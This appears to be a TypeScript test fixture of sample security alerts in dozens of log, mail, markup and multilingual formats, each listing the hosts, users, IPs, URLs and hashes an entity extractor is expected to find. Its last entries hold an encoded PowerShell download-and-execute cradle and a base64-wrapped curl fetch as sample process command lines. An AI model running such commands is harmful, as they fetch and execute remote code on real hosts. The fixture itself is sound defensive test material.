const SHA256 = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
const MD5 = '900150983cd24fb0d6963f7d28e17f72';
const DEVICE = '7c1be4d09a3f25e86b17c0d4e92f8a3b5d6c7e01';
const GUID = '3f0c9a52-7be1-4d7c-9a26-51f0b7c8d9e4';
const ENDPOINT_ALERT = 'da637551227677560813_-961444813';
const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('base64');
const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

/** An alert in one format, with every entity that a reader finds in it: `kind value`, or `kind value role`. */
interface LabelledAlert {
  readonly format: string;
  readonly group: 'JSON' | 'log line' | 'table' | 'markup' | 'mail' | 'prose' | 'encoded';
  readonly content: string;
  readonly entities: readonly string[];
}

export const LABELLED_ALERTS: readonly LabelledAlert[] = [
  {
    format: 'change notification with the page of the incident',
    group: 'JSON',
    content: JSON.stringify({
      resource: '/security/incidents',
      resourceData: { id: '41772', incidentWebUrl: 'https://portal.vendor.example/incidents/41772?tid=x' },
    }),
    entities: ['incident-id 41772'],
  },
  {
    format: 'page of an incident in a sentence',
    group: 'prose',
    content: 'Please look at https://portal.vendor.example/incident2/41772/overview today.',
    entities: ['incident-id 41772', 'url https://portal.vendor.example/incident2/41772/overview', 'domain portal.vendor.example'],
  },
  {
    format: 'Security Hub finding, whose resource names contain digests',
    group: 'JSON',
    content: JSON.stringify({
      Id: `arn:aws:guardduty:eu-central-1:222233334444:detector/${MD5}/finding/${MD5.split('').reverse().join('')}`,
      Resources: [{ Type: 'AwsEc2Instance', Tags: { Name: 'db-node-7' } }],
      Process: { Sha256: SHA256 },
    }),
    entities: [`hash ${SHA256}`, 'host db-node-7'],
  },
  {
    format: 'Suricata EVE with fingerprints of TLS',
    group: 'JSON',
    content: JSON.stringify({
      src_ip: '10.2.3.4',
      tls: { sni: 'updates.vendor.example', ja3: { hash: MD5, string: '771,4865' }, ja3s: { hash: MD5 } },
      imphash: MD5,
    }),
    entities: ['ip 10.2.3.4 source', 'domain updates.vendor.example'],
  },
  {
    format: 'Falco event with the node',
    group: 'JSON',
    content: JSON.stringify({ output: 'A shell was spawned', output_fields: { 'k8s.node.name': 'worker-b-12', 'fd.rip': '203.0.113.8' } }),
    entities: ['host worker-b-12', 'ip 203.0.113.8'],
  },
  {
    format: 'Sentinel incident with entities as JSON in JSON',
    group: 'JSON',
    content: JSON.stringify({
      properties: {
        title: 'Unusual sign-in',
        severity: 'Medium',
        incidentNumber: 5521,
        ExtendedProperties: JSON.stringify({ 'Client IP Address': '203.0.113.45' }),
        Entities: JSON.stringify([
          { Type: 'account', Name: 'l.okafor', UPNSuffix: 'brightmoor.example' },
          { Type: 'host', HostName: 'bm-lt-204', DnsDomain: 'brightmoor.example' },
          { Type: 'ip', Address: '203.0.113.45' },
        ]),
      },
    }),
    entities: ['incident-id 5521', 'ip 203.0.113.45 source', 'user l.okafor@brightmoor.example', 'host bm-lt-204'],
  },
  {
    format: 'Defender alert',
    group: 'JSON',
    content: JSON.stringify({
      id: ENDPOINT_ALERT,
      incidentId: 88213,
      machineId: DEVICE,
      computerDnsName: 'bm-ws-031.brightmoor.example',
      mitreTechniques: ['T1059.001'],
      relatedUser: { userName: 'r.santos', domainName: 'BRIGHTMOOR' },
      evidence: [{ entityType: 'File', sha256: SHA256, fileName: 'update.zip' }],
    }),
    entities: [
      `alert-id ${ENDPOINT_ALERT}`,
      'incident-id 88213',
      `machine-id ${DEVICE}`,
      'host bm-ws-031.brightmoor.example',
      'user r.santos',
      `hash ${SHA256}`,
    ],
  },
  {
    format: 'Splunk notable event',
    group: 'JSON',
    content: JSON.stringify({
      sid: 'scheduler__x',
      search_name: 'Threat - Beaconing - Rule',
      result: {
        src: '10.20.4.17',
        src_host: 'bm-ws-017',
        dest: '198.51.100.90',
        dest_port: '443',
        user: 'k.lindqvist',
        signature: 'beacon',
      },
    }),
    entities: ['ip 10.20.4.17 source', 'host bm-ws-017 source', 'ip 198.51.100.90 destination', 'user k.lindqvist'],
  },
  {
    format: 'Elastic common schema with nested objects',
    group: 'JSON',
    content: JSON.stringify({
      '@timestamp': '2026-03-04T11:22:33.000Z',
      source: { ip: '192.0.2.61', port: 51515 },
      destination: { ip: '198.51.100.14', domain: 'cdn.fastpixel.example' },
      host: { hostname: 'bm-srv-09', name: 'bm-srv-09' },
      user: { name: 'svc-report', domain: 'BRIGHTMOOR' },
      process: { executable: '/usr/bin/curl', hash: { md5: MD5 } },
    }),
    entities: [
      'ip 192.0.2.61 source',
      'ip 198.51.100.14 destination',
      'domain cdn.fastpixel.example destination',
      'host bm-srv-09',
      'user svc-report',
      `hash ${MD5}`,
    ],
  },
  {
    format: 'Elastic common schema with dotted names',
    group: 'JSON',
    content: JSON.stringify({
      'source.ip': '192.0.2.62',
      'destination.ip': '198.51.100.15',
      'host.name': 'bm-srv-10',
      'user.name': 'jpark',
      'rule.name': 'Port scan',
    }),
    entities: ['ip 192.0.2.62 source', 'ip 198.51.100.15 destination', 'host bm-srv-10', 'user jpark'],
  },
  {
    format: 'Wazuh',
    group: 'JSON',
    content: JSON.stringify({
      rule: { level: 10, description: 'sshd: brute force', mitre: { id: ['T1110'] } },
      agent: { id: '014', name: 'web-prod-3', ip: '10.20.8.3' },
      data: { srcip: '203.0.113.77', dstuser: 'root', srcport: '41022' },
      location: '/var/log/auth.log',
    }),
    entities: ['host web-prod-3', 'machine-id 014', 'ip 10.20.8.3', 'ip 203.0.113.77 source', 'user root destination'],
  },
  {
    format: 'GuardDuty',
    group: 'JSON',
    content: JSON.stringify({
      type: 'UnauthorizedAccess:EC2/MaliciousIPCaller.Custom',
      severity: 5,
      resource: {
        accessKeyDetails: { userName: 'ci-deploy', principalId: 'AIDAEXAMPLE' },
        instanceDetails: { instanceId: 'i-0abc12de34f567890' },
      },
      service: {
        action: {
          networkConnectionAction: { remoteIpDetails: { ipAddressV4: '198.51.100.200' }, localIpDetails: { ipAddressV4: '10.30.1.9' } },
        },
      },
    }),
    entities: ['user ci-deploy', 'ip 198.51.100.200', 'ip 10.30.1.9', 'machine-id i-0abc12de34f567890'],
  },
  {
    format: 'OCSF detection finding',
    group: 'JSON',
    content: JSON.stringify({
      class_uid: 2004,
      severity_id: 4,
      actor: { user: { name: 'd.moreau', email_addr: 'd.moreau@brightmoor.example' } },
      src_endpoint: { ip: '192.0.2.140', hostname: 'bm-lt-140' },
      dst_endpoint: { ip: '203.0.113.140', hostname: 'files.sharebox.example' },
      device: { hostname: 'bm-lt-140', uid: GUID },
    }),
    entities: [
      'user d.moreau actor',
      'email d.moreau@brightmoor.example actor',
      'ip 192.0.2.140 source',
      'host bm-lt-140 source',
      'ip 203.0.113.140 destination',
      'host files.sharebox.example destination',
      'domain files.sharebox.example destination',
      `machine-id ${GUID}`,
    ],
  },
  {
    format: 'JSON in JSON in JSON',
    group: 'JSON',
    content: JSON.stringify({ message: JSON.stringify({ event: JSON.stringify({ hostname: 'bm-ws-088', user: 'omar.haddad' }) }) }),
    entities: ['host bm-ws-088', 'user omar.haddad'],
  },
  {
    format: 'JSON ten levels deep',
    group: 'JSON',
    content: `${'{"a":'.repeat(10)}{"target":{"ip":"198.51.100.77","user":{"upn":"p.vance@brightmoor.example"}}}${'}'.repeat(10)}`,
    entities: [
      'ip 198.51.100.77 destination',
      'user p.vance@brightmoor.example destination',
      'email p.vance@brightmoor.example destination',
    ],
  },
  {
    format: 'JSON with name and value pairs',
    group: 'JSON',
    content: JSON.stringify({
      fields: [
        { name: 'User', value: 'h.ito' },
        { name: 'Device Name', value: 'bm-ws-055' },
        { key: 'Source IP', value: '192.0.2.5' },
      ],
    }),
    entities: ['user h.ito', 'host bm-ws-055', 'ip 192.0.2.5 source'],
  },
  {
    format: 'JSON lines',
    group: 'JSON',
    content: '{"user":"a.one","srcip":"192.0.2.11"}\n{"user":"b.two","dstip":"192.0.2.12"}\n',
    entities: ['user a.one', 'user b.two', 'ip 192.0.2.11 source', 'ip 192.0.2.12 destination'],
  },
  {
    format: 'JSON of a mail gateway',
    group: 'JSON',
    content: JSON.stringify({
      eventType: 'messagesDelivered',
      sender: 'billing@paynow-invoices.example',
      recipient: ['a.novak@brightmoor.example', 'b.novak@brightmoor.example'],
      senderIP: '203.0.113.9',
      threatsInfoMap: [{ threat: 'hxxps://paynow-invoices[.]example/login', classification: 'phish' }],
      messageID: '<abc.123@mta.paynow-invoices.example>',
    }),
    entities: [
      'email billing@paynow-invoices.example sender',
      'domain paynow-invoices.example',
      'email a.novak@brightmoor.example recipient',
      'email b.novak@brightmoor.example recipient',
      'ip 203.0.113.9 sender',
      'url https://paynow-invoices.example/login',
    ],
  },
  {
    format: 'JSON of the intelligence platform',
    group: 'JSON',
    content: JSON.stringify({
      playbook_alert_id: 'task:0c28b813-04c4-4f7d-b2ef-a30de102d9ab',
      category: 'domain_abuse',
      entity: 'brightm00r.example',
    }),
    entities: ['alert-id task:0c28b813-04c4-4f7d-b2ef-a30de102d9ab', 'domain brightm00r.example'],
  },
  {
    format: 'JSON of the investigation platform',
    group: 'JSON',
    content: JSON.stringify({
      investigation: { rrn: 'rrn:investigation:eu:1f946362-0809-426d-987c-849bde704c16:investigation:QK2JTFINWHGA' },
      alerts: [{ id: 'rrn:alerts:eu1:1f946362-0809-426d-987c-849bde704c16:alert:1:1c961b2402751096126c72ca3e07d7d6' }],
    }),
    entities: [
      'investigation-id rrn:investigation:eu:1f946362-0809-426d-987c-849bde704c16:investigation:QK2JTFINWHGA',
      'alert-id rrn:alerts:eu1:1f946362-0809-426d-987c-849bde704c16:alert:1:1c961b2402751096126c72ca3e07d7d6',
    ],
  },
  {
    format: 'JSON with German names',
    group: 'JSON',
    content: JSON.stringify({ Benutzer: 'f.krüger', Rechnername: 'HH-PC-0412', 'Quell-IP': '10.44.0.12', 'Ziel-IP': '203.0.113.52' }),
    entities: ['user f.krüger', 'host hh-pc-0412', 'ip 10.44.0.12 source', 'ip 203.0.113.52 destination'],
  },
  {
    format: 'CEF with a custom label',
    group: 'log line',
    content:
      'CEF:0|Northgate|IDS|4.2|1001|Outbound to known bad|8|src=10.9.8.7 dst=203.0.113.200 suser=Mary Ellen Poe shost=NG-WS-77 cs1Label=Device ID cs1=' +
      `${DEVICE} request=http://bad.northfall.example/x?y\\=1 msg=Blocked by policy`,
    entities: [
      'ip 10.9.8.7 source',
      'ip 203.0.113.200 destination',
      'user mary ellen poe source',
      'host ng-ws-77 source',
      `machine-id ${DEVICE}`,
      'url http://bad.northfall.example/x?y=1',
      'domain bad.northfall.example',
    ],
  },
  {
    format: 'CEF after a syslog header',
    group: 'log line',
    content: `<134>Feb 11 06:01:44 relay01 CEF:0|Vend|Prod|1|42|Malware blocked|10|dhost=fin-pc-12 duser=ACME\\\\tlee fileHash=${SHA256}`,
    entities: ['host fin-pc-12 destination', 'user acme\\tlee destination', `hash ${SHA256}`],
  },
  {
    format: 'LEEF 1.0 with tabs',
    group: 'log line',
    content: 'LEEF:1.0|Vendor|FW|7|Deny|src=192.0.2.70\tdst=198.51.100.71\tusrName=pgomez\tidentHostName=mx-lap-33\tsev=7',
    entities: ['ip 192.0.2.70 source', 'ip 198.51.100.71 destination', 'user pgomez', 'host mx-lap-33 source'],
  },
  {
    format: 'LEEF 2.0 with a caret',
    group: 'log line',
    content: 'LEEF:2.0|Vendor|EDR|2|4625|^|src=192.0.2.72^usrName=Jo Anne Berg^resource=mx-srv-04^devTime=2026-04-01 10:00:00',
    entities: ['ip 192.0.2.72 source', 'user jo anne berg', 'host mx-srv-04'],
  },
  {
    format: 'LEEF 2.0 with a hexadecimal delimiter',
    group: 'log line',
    content: 'LEEF:2.0|Vendor|Proxy|3|url|x7C|src=192.0.2.73|url=https://drop.filehaven.example/a.bin|usrName=n.silva|hostName=mx-lap-40',
    entities: [
      'ip 192.0.2.73 source',
      'url https://drop.filehaven.example/a.bin',
      'domain drop.filehaven.example',
      'user n.silva',
      'host mx-lap-40',
    ],
  },
  {
    format: 'LEEF 2.0 with 0x5E after a syslog header',
    group: 'log line',
    content: '<13>1 2026-05-05T05:05:05Z collector - - - - LEEF:2.0|V|P|1|E|0x5E|dst=203.0.113.74^identSrc=10.1.1.74^userName=MX\\e.ruiz',
    entities: ['ip 203.0.113.74 destination', 'ip 10.1.1.74 source', 'user mx\\e.ruiz'],
  },
  {
    format: 'RFC 3164 syslog of a server',
    group: 'log line',
    content: '<38>Mar  9 03:12:55 db-node-07 sshd[2211]: Failed password for invalid user oracle from 203.0.113.31 port 52110 ssh2',
    entities: ['host db-node-07', 'user oracle', 'ip 203.0.113.31'],
  },
  {
    format: 'RFC 5424 syslog with structured data',
    group: 'log line',
    content:
      '<165>1 2026-03-09T03:12:55.003Z edge-fw-2.northgate.example ips 1234 ID47 [alert@32473 user="NORTHGATE\\\\w.chen" srcIp="192.0.2.88" dstHost="ng-db-3"] Signature match',
    entities: ['user northgate\\w.chen', 'ip 192.0.2.88 source', 'host ng-db-3 destination'],
  },
  {
    format: 'key=value of a firewall',
    group: 'log line',
    content:
      'date=2026-02-02 time=10:11:12 devname="fw-branch-1" type="utm" srcip=10.5.6.7 dstip=198.51.100.34 hostname="cdn.oddware.example" user="A.KIM" action=blocked url="http://cdn.oddware.example/p"',
    entities: [
      'host fw-branch-1',
      'ip 10.5.6.7 source',
      'ip 198.51.100.34 destination',
      'host cdn.oddware.example',
      'user a.kim',
      'url http://cdn.oddware.example/p',
      'domain cdn.oddware.example',
    ],
  },
  {
    format: 'key=value with commas',
    group: 'log line',
    content: `alert=Beacon, user=corp\\zoe.ray, computer=ZR-LAP-9, dest_ip=203.0.113.99, sha256=${SHA256}`,
    entities: ['user corp\\zoe.ray', 'host zr-lap-9', 'ip 203.0.113.99 destination', `hash ${SHA256}`],
  },
  {
    format: 'key: value separated by pipes',
    group: 'log line',
    content: 'Host: qa-vm-21 | User: i.petrov | Src: 192.0.2.21 | Dst: 203.0.113.21',
    entities: ['host qa-vm-21', 'user i.petrov', 'ip 192.0.2.21 source', 'ip 203.0.113.21 destination'],
  },
  {
    format: 'CSV with header and quotes',
    group: 'table',
    content:
      'time,"src ip","dst ip",user,device name,note\n2026-01-01T00:00:00Z,192.0.2.31,203.0.113.32,"Reed, Amy","fin-ws-61","said ""ok"", left"\n',
    entities: ['ip 192.0.2.31 source', 'ip 203.0.113.32 destination', 'user reed, amy', 'host fin-ws-61'],
  },
  {
    format: 'CSV with semicolons',
    group: 'table',
    content: 'Zeit;Benutzer;Rechner;Quell-IP\r\n01.02.2026 10:00;s.weiß;ber-nb-77;192.0.2.33\r\n',
    entities: ['user s.weiß', 'host ber-nb-77', 'ip 192.0.2.33 source'],
  },
  {
    format: 'TSV',
    group: 'table',
    content: `hostname\tusername\tsha256\nber-nb-78\tt.vogel\t${SHA256}\n`,
    entities: ['host ber-nb-78', 'user t.vogel', `hash ${SHA256}`],
  },
  {
    format: 'CSV with several rows',
    group: 'table',
    content:
      'sender,recipient,url\nx@lurepost.example,m.bell@northgate.example,http://lurepost.example/1\ny@lurepost.example,n.bell@northgate.example,http://lurepost.example/2\n',
    entities: [
      'email x@lurepost.example sender',
      'email y@lurepost.example sender',
      'email m.bell@northgate.example recipient',
      'email n.bell@northgate.example recipient',
      'url http://lurepost.example/1',
      'url http://lurepost.example/2',
      'domain lurepost.example',
    ],
  },
  {
    format: 'Markdown table with fields and values',
    group: 'table',
    content:
      '## Alert\n\n| Field | Value |\n|---|---|\n| Host | `ny-srv-14` |\n| User | **g.abbott** |\n| Source IP | 192.0.2.41 |\n| Device ID | `' +
      DEVICE +
      '` |\n',
    entities: ['host ny-srv-14', 'user g.abbott', 'ip 192.0.2.41 source', `machine-id ${DEVICE}`],
  },
  {
    format: 'Markdown table with columns',
    group: 'table',
    content:
      'Findings:\n\n| Computer | Account | Alert ID |\n|:--|:-:|--:|\n| ny-ws-15 | `NYC\\c.diaz` | ' +
      ENDPOINT_ALERT +
      ' |\n| ny-ws-16 | `NYC\\d.diaz` | |\n\nPlease check.',
    entities: ['host ny-ws-15', 'host ny-ws-16', 'user nyc\\c.diaz', 'user nyc\\d.diaz', `alert-id ${ENDPOINT_ALERT}`],
  },
  {
    format: 'Markdown list with bold labels',
    group: 'table',
    content: `- **Host:** ny-ws-17\n- **User:** e.diaz\n- **Destination:** 203.0.113.17\n* **File hash**: \`${MD5}\``,
    entities: ['host ny-ws-17', 'user e.diaz', 'ip 203.0.113.17 destination', `hash ${MD5}`],
  },
  {
    format: 'Markdown table in Japanese',
    group: 'table',
    content:
      '| 項目 | 値 |\n|---|---|\n| ホスト名 | `osk-pc-208` |\n| ユーザー名 | k.yamada |\n| 送信元IP | 192.0.2.208 |\n| 宛先 | 203.0.113.208 |',
    entities: ['host osk-pc-208', 'user k.yamada', 'ip 192.0.2.208 source', 'ip 203.0.113.208 destination'],
  },
  {
    format: 'Windows event XML',
    group: 'markup',
    content:
      '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing"/><EventID>4625</EventID><Computer>ADS-DC-01.northgate.example</Computer></System><EventData><Data Name="TargetUserName">b.farrow</Data><Data Name="TargetDomainName">NORTHGATE</Data><Data Name="WorkstationName">NG-WS-90</Data><Data Name="IpAddress">192.0.2.90</Data></EventData></Event>',
    entities: ['host ads-dc-01.northgate.example', 'user b.farrow destination', 'host ng-ws-90', 'ip 192.0.2.90'],
  },
  {
    format: 'XML with attributes',
    group: 'markup',
    content:
      '<?xml version="1.0"?><alert severity="high"><host name="ng-ws-91" ip="192.0.2.91"/><user>o.quinn</user><destination address="203.0.113.91"/></alert>',
    entities: ['host ng-ws-91', 'ip 192.0.2.91', 'user o.quinn', 'ip 203.0.113.91 destination'],
  },
  {
    format: 'XML with CDATA and entities',
    group: 'markup',
    content:
      '<incident><incident_id>INC-77120</incident_id><description><![CDATA[Click on http://a.trickmail.example/?u=1&v=2 by user: v.osei]]></description></incident>',
    entities: ['incident-id INC-77120', 'url http://a.trickmail.example/?u=1&v=2', 'domain a.trickmail.example', 'user v.osei'],
  },
  {
    format: 'YAML',
    group: 'markup',
    content:
      'alert:\n  name: Suspicious login\n  host:\n    name: lon-vm-3\n  user: &u l.grant\n  source:\n    - ip: 192.0.2.103\n  destination:\n    ip: 203.0.113.103\n',
    entities: ['host lon-vm-3', 'user l.grant', 'ip 192.0.2.103 source', 'ip 203.0.113.103 destination'],
  },
  {
    format: 'YAML list',
    group: 'markup',
    content: `---\n- device_name: lon-vm-4\n  device_id: ${GUID}\n  upn: m.grant@northgate.example\n`,
    entities: ['host lon-vm-4', `machine-id ${GUID}`, 'user m.grant@northgate.example', 'email m.grant@northgate.example'],
  },
  {
    format: 'HTML table',
    group: 'markup',
    content:
      '<html><body><p>Alert raised</p><table><tr><th>Device</th><td>par-pc-61</td></tr><tr><th>Utilisateur</th><td>c.lefevre</td></tr><tr><th>URL</th><td><a href="https://cadeau.promo-fr.example/x">lien</a></td></tr></table></body></html>',
    entities: ['host par-pc-61', 'user c.lefevre', 'url https://cadeau.promo-fr.example/x', 'domain cadeau.promo-fr.example'],
  },
  {
    format: 'HTML with line breaks and character references',
    group: 'markup',
    content: '<div>Host:&nbsp;<b>par-pc-62</b><br>User:&#32;p.lefevre<br>Source&nbsp;IP: 192.0.2.62<br/></div>',
    entities: ['host par-pc-62', 'user p.lefevre', 'ip 192.0.2.62 source'],
  },
  {
    format: 'forwarded mail with headers',
    group: 'mail',
    content: [
      'Received: from mx.lurehost.example (mx.lurehost.example [203.0.113.150]) by mail.northgate.example',
      'From: "Helpdesk" <it-support@lurehost.example>',
      'To: Sam Field <s.field@northgate.example>',
      'Subject: =?utf-8?Q?Password_expires?=',
      'Message-ID: <1@mx.lurehost.example>',
      '',
      'Please renew at https://lurehost.example/renew today.',
    ].join('\r\n'),
    entities: [
      'ip 203.0.113.150',
      'domain mx.lurehost.example',
      'domain mail.northgate.example',
      'email it-support@lurehost.example sender',
      'domain lurehost.example',
      'email s.field@northgate.example recipient',
      'url https://lurehost.example/renew',
    ],
  },
  {
    format: 'mail with a quoted-printable part',
    group: 'mail',
    content: [
      'From: billing@quartz-pay.example',
      'To: u.adams@northgate.example',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: quoted-printable',
      '',
      '<p>Zahlung =C3=BCberf=C3=A4llig: <a href=3D"https://quartz-pay.example/inv=',
      'oice?id=3D77">here</a></p>',
    ].join('\n'),
    entities: [
      'email billing@quartz-pay.example sender',
      'domain quartz-pay.example',
      'email u.adams@northgate.example recipient',
      'url https://quartz-pay.example/invoice?id=77',
    ],
  },
  {
    format: 'mail with base64 parts',
    group: 'mail',
    content: [
      'A colleague forwarded this message:',
      '',
      'Return-Path: <bounce@opal-news.example>',
      'From: news@opal-news.example',
      'To: w.adams@northgate.example',
      'MIME-Version: 1.0',
      'Content-Type: multipart/alternative; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      base64('Open http://opal-news.example/gift now'),
      '--b1--',
      '',
    ].join('\n'),
    entities: [
      'email bounce@opal-news.example sender',
      'email news@opal-news.example sender',
      'domain opal-news.example',
      'email w.adams@northgate.example recipient',
      'url http://opal-news.example/gift',
    ],
  },
  {
    format: 'mail forwarded as text, in German',
    group: 'mail',
    content:
      'Bitte prüfen.\n\n-----Ursprüngliche Nachricht-----\nVon: Paketdienst <info@paket-zoll.example>\nGesendet: Montag, 2. Februar 2026 08:14\nAn: Karin Busch <k.busch@nordlicht.example>\nBetreff: Zollgebühr\n\nBezahlen: hxxps://paket-zoll[.]example/pay',
    entities: [
      'email info@paket-zoll.example sender',
      'domain paket-zoll.example',
      'email k.busch@nordlicht.example recipient',
      'url https://paket-zoll.example/pay',
    ],
  },
  {
    format: 'English prose with ids',
    group: 'prose',
    content: `Please look at incident 41877 and alert ${ENDPOINT_ALERT}. The device ${DEVICE} belongs to NORTHGATE\\y.brandt.`,
    entities: ['incident-id 41877', `alert-id ${ENDPOINT_ALERT}`, `machine-id ${DEVICE}`, 'user northgate\\y.brandt'],
  },
  {
    format: 'English prose with a hash sign',
    group: 'prose',
    content: 'Incident #41878: user y.brandt opened invoice.zip on laptop ng-lt-301, then it contacted 203.0.113.161.',
    entities: ['incident-id 41878', 'user y.brandt', 'host ng-lt-301', 'ip 203.0.113.161'],
  },
  {
    format: 'English prose without labels',
    group: 'prose',
    content:
      'Odd logon hours on NG-WS-302 by m.oduya@northgate.example; ng-srv-07.northgate.example then talked to 203.0.113.162 (eu-west-1, utf-8, AES-256).',
    entities: [
      'host ng-ws-302',
      'email m.oduya@northgate.example',
      'domain northgate.example',
      'host ng-srv-07',
      'domain ng-srv-07.northgate.example',
      'ip 203.0.113.162',
    ],
  },
  {
    format: 'CEF of a forwarded incident',
    group: 'log line',
    content: 'CEF:0|Vend|XDR|2|7|Incident raised|6|externalId=77310 rt=Feb 11 2026 06:01:44',
    entities: ['incident-id 77310'],
  },
  {
    format: 'German prose',
    group: 'prose',
    content:
      'Vorfall 4719: Auf dem Rechner HH-PC-0413 hat der Benutzer m.schäfer die Datei rechnung.zip geöffnet. Quelle: 203.0.113.66. Bitte prüfen Sie auch nordlicht-bank[.]example.',
    entities: ['incident-id 4719', 'host hh-pc-0413', 'user m.schäfer', 'ip 203.0.113.66 source', 'domain nordlicht-bank.example'],
  },
  {
    format: 'German labels',
    group: 'prose',
    content: `Benutzer: NORD\\j.hoffmann\nRechner: HH-PC-0414\nQuelle: 10.44.0.14\nVorfall-Nr.: 5521\nZiel: 203.0.113.67\nGeräte-ID: ${DEVICE}`,
    entities: [
      'user nord\\j.hoffmann',
      'host hh-pc-0414',
      'ip 10.44.0.14 source',
      'incident-id 5521',
      'ip 203.0.113.67 destination',
      `machine-id ${DEVICE}`,
    ],
  },
  {
    format: 'Japanese prose',
    group: 'prose',
    content: `ホストosk-pc-209でマルウェアが検出されました。ユーザーはt.mori、送信元は192.0.2.209、ハッシュ値は${SHA256}です。`,
    entities: ['host osk-pc-209', 'user t.mori', 'ip 192.0.2.209 source', `hash ${SHA256}`],
  },
  {
    format: 'Japanese labels with a fullwidth colon',
    group: 'prose',
    content: 'ホスト：osk-pc-210\nユーザー：佐藤健\n宛先：203.0.113.210\nインシデント番号：90021',
    entities: ['host osk-pc-210', 'user 佐藤健', 'ip 203.0.113.210 destination', 'incident-id 90021'],
  },
  {
    format: 'Chinese prose',
    group: 'prose',
    content: '主机 sh-fin-031 上的用户 wang.lei 访问了恶意域名evil-drop.example，源地址：10.66.1.31，目标地址：203.0.113.131。',
    entities: ['host sh-fin-031', 'user wang.lei', 'domain evil-drop.example', 'ip 10.66.1.31 source', 'ip 203.0.113.131 destination'],
  },
  {
    format: 'Korean labels',
    group: 'prose',
    content: '호스트: seo-pc-77\n사용자: minji.park\n출발지 IP: 192.0.2.177',
    entities: ['host seo-pc-77', 'user minji.park', 'ip 192.0.2.177 source'],
  },
  {
    format: 'Russian prose',
    group: 'prose',
    content:
      'На хосте msk-srv-12 пользователь a.volkov запустил файл. Адрес источника: 192.0.2.212, адрес назначения: 203.0.113.212. Инцидент № 33017.',
    entities: ['host msk-srv-12', 'user a.volkov', 'ip 192.0.2.212 source', 'ip 203.0.113.212 destination', 'incident-id 33017'],
  },
  {
    format: 'Russian labels',
    group: 'prose',
    content: 'Хост: msk-srv-13\nПользователь: MSK\\i.orlov\nОтправитель: promo@skidka.example\nПолучатель: i.orlov@sever.example',
    entities: [
      'host msk-srv-13',
      'user msk\\i.orlov',
      'email promo@skidka.example sender',
      'domain skidka.example',
      'email i.orlov@sever.example recipient',
    ],
  },
  {
    format: 'French prose',
    group: 'prose',
    content: 'L’utilisateur : b.moulin s’est connecté au poste par-pc-63 depuis l’adresse source : 203.0.113.63. Incident n° 5150.',
    entities: ['user b.moulin', 'host par-pc-63', 'ip 203.0.113.63 source', 'incident-id 5150'],
  },
  {
    format: 'Spanish labels',
    group: 'prose',
    content: 'Equipo: mad-pc-05; Usuario: l.ortega; Origen: 192.0.2.105; Destino: 203.0.113.105; Incidente: 6201',
    entities: ['host mad-pc-05', 'user l.ortega', 'ip 192.0.2.105 source', 'ip 203.0.113.105 destination', 'incident-id 6201'],
  },
  {
    format: 'Portuguese and Italian labels',
    group: 'prose',
    content: 'Usuário: r.costa\nMáquina: lis-pc-44\nUtente: g.ricci\nComputer: mil-pc-45',
    entities: ['user r.costa', 'host lis-pc-44', 'user g.ricci', 'host mil-pc-45'],
  },
  {
    format: 'Polish and Dutch labels',
    group: 'prose',
    content: 'Użytkownik: a.nowak\nKomputer: waw-pc-12\nGebruiker: s.devries\nApparaat: ams-lt-13\nBron: 192.0.2.13',
    entities: ['user a.nowak', 'host waw-pc-12', 'user s.devries', 'host ams-lt-13', 'ip 192.0.2.13 source'],
  },
  {
    format: 'Turkish labels',
    group: 'prose',
    content: 'Kullanıcı: e.yilmaz\nBilgisayar: ist-pc-90\nKaynak IP: 192.0.2.190\nHedef IP: 203.0.113.190',
    entities: ['user e.yilmaz', 'host ist-pc-90', 'ip 192.0.2.190 source', 'ip 203.0.113.190 destination'],
  },
  {
    format: 'Arabic labels',
    group: 'prose',
    content: 'المستخدم: h.nasser\nالجهاز: dxb-pc-18\nعنوان المصدر: 192.0.2.118',
    entities: ['user h.nasser', 'host dxb-pc-18', 'ip 192.0.2.118 source'],
  },
  {
    format: 'Ukrainian and Czech labels',
    group: 'prose',
    content: 'Користувач: o.bondar\nКомп’ютер: kyi-pc-31\nUživatel: p.dvorak\nPočítač: prg-pc-32',
    entities: ['user o.bondar', 'host kyi-pc-31', 'user p.dvorak', 'host prg-pc-32'],
  },
  {
    format: 'defanged indicators',
    group: 'prose',
    content: 'hxxps[:]//portal[.]lakeview(.)example/a, 203[.]0[.]113[.]111, ceo[at]lakeview-pay[dot]example, cdn[.]lakeview{.}example',
    entities: [
      'url https://portal.lakeview.example/a',
      'domain portal.lakeview.example',
      'ip 203.0.113.111',
      'email ceo@lakeview-pay.example',
      'domain lakeview-pay.example',
      'domain cdn.lakeview.example',
    ],
  },
  {
    format: 'chat message with accounts',
    group: 'prose',
    content: 'fyi HARBOR\\n.fox and n.fox@harbor.example both failed MFA; path was C:\\Users\\nfox\\tool.exe and key HKLM\\Software\\Run',
    entities: ['user harbor\\n.fox', 'email n.fox@harbor.example', 'domain harbor.example'],
  },
  {
    format: 'investigation id in prose',
    group: 'prose',
    content:
      'See investigation rrn:investigation:us:2f946362-0809-426d-987c-849bde704c16:investigation:AB6JTFINWHGK and task:17bdbb0b-c478-4abb-8546-a551cc254ac0.',
    entities: [
      'investigation-id rrn:investigation:us:2f946362-0809-426d-987c-849bde704c16:investigation:AB6JTFINWHGK',
      'alert-id task:17bdbb0b-c478-4abb-8546-a551cc254ac0',
    ],
  },
  {
    format: 'prose with times and versions only',
    group: 'prose',
    content: 'At 2026-02-03T04:05:06+09:00 (03.02.2026 04:05:06, 1770058800) version 10.0.19045 restarted after 12:30:45.123.',
    entities: [],
  },
  {
    format: 'encoded PowerShell command',
    group: 'encoded',
    content: `Process on host hb-ws-12: powershell.exe -NoP -w hidden -enc ${utf16('IEX (New-Object Net.WebClient).DownloadString("http://stage.brinefall.example/a.ps1")')}`,
    entities: ['host hb-ws-12', 'url http://stage.brinefall.example/a.ps1', 'domain stage.brinefall.example'],
  },
  {
    format: 'FromBase64String in JSON',
    group: 'encoded',
    content: JSON.stringify({
      deviceName: 'hb-ws-13',
      processCommandLine: `powershell -c "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64('curl http://203.0.113.88/x -o x')}'))"`,
    }),
